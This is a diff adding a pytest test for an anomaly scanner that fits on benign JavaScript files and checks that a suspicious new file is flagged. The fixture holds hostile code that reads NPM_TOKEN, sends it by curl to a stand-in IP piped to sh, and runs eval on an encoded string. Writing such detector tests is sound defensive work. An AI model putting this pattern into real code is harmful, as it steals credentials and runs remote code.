@@ -90,3 +90,19 @@ def test_stale_baseline_warns(repo: Path, capsys: pytest.CaptureFixture[str]):
     capsys.readouterr()
     main(["anomaly", "score", str(repo / "m1.py")])
     assert "stale" in capsys.readouterr().err
+
+
+def test_fit_and_score_javascript(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
+    for i in range(8):
+        (tmp_path / f"m{i}.js").write_text(
+            f"function total{i}(items) {{\n  let r = 0;\n  for (const it of items) {{ if (it.size > {i}) r += it.size; }}\n"
+            f"  return r;\n}}\nconst label{i} = (x) => 'x-' + String(x);\nmodule.exports = {{ total{i}, label{i} }};\n")
+    assert main(["anomaly", "fit", str(tmp_path), "--language", "javascript"]) == 0
+    (tmp_path / "new.js").write_text(
+        'const cp = require("child_process");\n'
+        "function update() {\n  const t = process.env.NPM_TOKEN;\n"
+        '  cp.exec("curl http://203.0.113.5/x?t=" + t + " | sh");\n  eval(atob("YWxlcnQoMSk="));\n}\n')
+    capsys.readouterr()
+    main(["anomaly", "score", str(tmp_path / "new.js"), "--format", "json"])
+    findings = json.loads(capsys.readouterr().out)["findings"]
+    assert "update" in [f["evidence"]["unit"] for f in findings]
